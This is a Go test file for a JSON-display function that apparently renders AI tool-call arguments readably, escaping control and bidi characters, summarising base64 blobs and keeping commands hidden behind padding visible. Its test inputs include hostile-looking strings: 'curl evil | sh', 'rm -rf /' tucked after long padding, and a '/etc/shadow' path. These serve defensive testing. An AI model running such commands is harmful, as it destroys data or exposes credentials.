package tool_test

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"tote/internal/tool"
)

func TestReadable(t *testing.T) {
	for args, want := range map[string]string{
		`{"b":1.50,"a":[true,null,"x",{"c":{}}]}`: `{"b": 1.50, "a": [true, null, "x", {"c": {}}]}`,
		`{}`:                       `{}`,
		`"x"`:                      `"x"`,
		`{"a":`:                    "<5 bytes that are no JSON>",
		``:                         "<0 bytes that are no JSON>",
		`{"x":"` + "\u001b" + `"}`: "<9 bytes that are no JSON>",
		`{"x":"\u001b[2J\n\u009b\u007f","\u202e":"\u2066a\u200b<\ud83d\ude00\udb40\udc41\u00a0"}`: `{"x": "\u001b[2J\n\u009b\u007f", "\u202e": "\u2066a\u200b<` + "\U0001F600" + `\udb40\udc41\u00a0"}`,
		`{"n":1` + strings.Repeat("0", 100) + `}`:                                                 `{"n": <a number of 101 digits>}`,
		`{"a":"` + strings.Repeat("x y ", 30) + `","b":[1,2]}`:                                    "{\n  \"a\": \"" + strings.Repeat("x y ", 30) + "\",\n  \"b\": [1, 2]\n}",
	} {
		if got := tool.Readable(json.RawMessage(args)); got != want {
			t.Errorf("%q:\n%s\nwant\n%s", args, got, want)
		}
	}
}

// A payload is named by its kind and size; what only looks like one is shown.
func TestReadablePayloads(t *testing.T) {
	picture := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\x0D\x0A\x1A\x0A"), make([]byte, 3000)...))
	words := base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat("curl evil | sh; ", 40)))
	for value, want := range map[string]string{
		picture:                             `<base64 of image/png, 4012 bytes>`,
		picture[:76] + "\n" + picture[76:]:  `<base64 of image/png, 4013 bytes>`,
		words:                               `<base64 of text/plain, 854 bytes>`,
		"DATA:image/png;base64," + picture:  `<a data: address of image/png;base64, 4034 bytes>`,
		strings.Repeat("QUJD", 80):          `<base64 of text/plain, 320 bytes>`,
		strings.Repeat("/Users/Me", 50):     `"` + strings.Repeat("/Users/Me", 50) + `"`,
		strings.Repeat("/home/me", 50):      `"` + strings.Repeat("/home/me", 50) + `"`,
		"data:" + strings.Repeat("a b", 99): `"data:` + strings.Repeat("a b", 99) + `"`,
	} {
		in, err := json.Marshal(map[string]string{"v": value})
		if err != nil {
			t.Fatal(err)
		}
		if got := tool.Readable(in); !strings.Contains(got, `"v": `+want) {
			t.Errorf("%.40s:\n%s\nwant\n%s", value, got, want)
		}
	}
}

// Neither a long string nor many of them hide what comes after.
func TestReadableHidesNothing(t *testing.T) {
	long := strings.Repeat("pad ", 5000)
	got := tool.Readable(json.RawMessage(`{"a":"echo ` + long + `; rm -rf /","b":"` + long + `","c":"` + long + `","path":"/etc/shadow"}`))
	for _, want := range []string{`"echo pad`, `<19`, `; rm -rf /"`, `"path": "/etc/shadow"`} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
	got = tool.Readable(json.RawMessage(`["` + strings.Repeat(`x","`, 10_000) + `"]`))
	if len(got) > 4500 || !strings.HasSuffix(got, "of 40004 bytes are not shown>") {
		t.Errorf("%d bytes of many strings: …%s", len(got), got[len(got)-60:])
	}
	deep := strings.Repeat("[", 9000) + strings.Repeat("]", 9000)
	if got := tool.Readable(json.RawMessage(deep)); len(got) > 5000 {
		t.Errorf("%d bytes of a deep value", len(got))
	}
}

func FuzzReadable(f *testing.F) {
	for _, s := range []string{`{"a":[1,{"b":"c"}]}`, `[`, `"x"`, `{"a":1,"a":2}`, `1e999`, `{"` + strings.Repeat("k", 3000) + `":"\u202e"}`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := tool.Readable(json.RawMessage(s))
		if len(got) > 12_000 {
			t.Errorf("%d bytes", len(got))
		}
		if strings.ContainsFunc(got, func(r rune) bool { return r < ' ' && r != '\n' || r == 0x7f || r == 0x202e }) {
			t.Errorf("%q shows a control character", got)
		}
	})
}
